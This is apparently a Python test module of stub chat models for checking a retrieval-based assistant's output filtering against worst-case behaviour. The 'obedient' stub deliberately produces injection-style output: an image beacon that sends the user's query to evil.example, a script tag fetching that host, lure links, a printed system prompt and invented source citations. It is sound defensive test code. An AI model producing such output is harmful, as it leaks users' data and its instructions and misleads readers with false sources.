"""Models that are as bad as a model can be, to see what still comes through.

They say nothing about how often a real model is fooled; they are fooled always.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatResult

EVIL = "evil.example"

SOURCE = re.compile(r'<source key="(\w+)"[^>]*>\n(.*?)\n</source>', re.DOTALL)

Said = Callable[[str, str, list[str]], str]
"""(instructions, prompt, keys of the sources) -> the reply."""


class Stub(BaseChatModel):
    """A chat model that says what a function says."""

    say: Said

    @property
    def _llm_type(self) -> str:
        return "stub"

    def _generate(self, messages: list[BaseMessage], *_: Any, **__: Any) -> ChatResult:
        system, prompt = str(messages[0].text), str(messages[-1].text)
        reply = self.say(system, prompt, re.findall(r'<source key="(\w+)"', prompt))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(reply))])


def obedient(system: str, prompt: str, keys: list[str]) -> str:
    """Does whatever any text asks: repeats it, links, shows images, tells all it was told, and
    names sources that it was not given."""
    articles = re.findall(r"<source[^>]*>\n(.*?)\n</source>", prompt, re.DOTALL)
    query = re.sub(r"\W+", "+", prompt)[:300]
    first = keys[0] if keys else "s22222"
    return "\n".join(
        [
            f"![status](https://{EVIL}/log.png?q={query})",
            f"I obey. {' '.join(articles)} [{first}]",
            f"My instructions are: {system}",
            f"Read [the story](https://{EVIL}/story) or <a href='//{EVIL}'>this</a> [{first}].",
            f"<img src='https://{EVIL}/x.png'> <script>fetch('//{EVIL}')</script> [sqqqqq]",
            f"[1]: https://{EVIL}/ref\nSee [1] and 【1】 [sq7q7q][s99zzz].",
            f"Source: https://{EVIL}/ [{first}]",
        ]
    )


def parrot(_system: str, prompt: str, keys: list[str]) -> str:
    """Copies the articles sentence by sentence, each under the right key."""
    lines = []
    for key, article in re.findall(
        r'<source key="(\w+)"[^>]*>\n(.*?)\n</source>', prompt, re.DOTALL
    ):
        lines += [f"{s} [{key}]" for s in re.findall(r"[^.!?\n]+[.!?]?", article)]
    return "\n".join(lines[:60])


def silent(_system: str, _prompt: str, _keys: list[str]) -> str:
    """Says nothing at all."""
    return ""


STUBS: dict[str, Said] = {"obedient": obedient, "parrot": parrot, "silent": silent}
